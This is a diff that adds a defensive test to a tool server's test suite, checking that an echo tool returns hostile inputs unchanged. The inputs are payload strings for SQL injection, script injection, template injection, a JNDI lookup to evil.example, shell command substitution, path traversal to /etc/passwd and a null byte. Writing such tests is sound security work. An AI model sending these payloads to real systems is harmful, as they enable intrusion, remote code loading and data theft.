@@ -30,6 +30,19 @@ describe.each(ERAS)('hostile arguments over %s', (era) => {
     expect(runtime.audited).toMatchObject([{ tool: 'watched_text', decision: 'failed', correlationId: error.correlationId }]);
   });
 
+  it.each([
+    "'; DROP TABLE users; --",
+    '<script>alert(1)</script>',
+    '{{7*7}}',
+    '$\u007Bjndi:ldap://evil.example/a}',
+    '$(id)',
+    '../../etc/passwd',
+    '%00',
+  ])('are data and nothing else: %s (P-130)', async (text) => {
+    const client = await connectInProcess(testRuntime(), era);
+    expect((await client.callTool({ name: 'echo_text', arguments: { text } })).structuredContent).toEqual({ text });
+  });
+
   it('are shortened, cleaned and redacted before they go on record (P-115)', async () => {
     const runtime = testRuntime();
     const client = await connectInProcess(runtime, era);
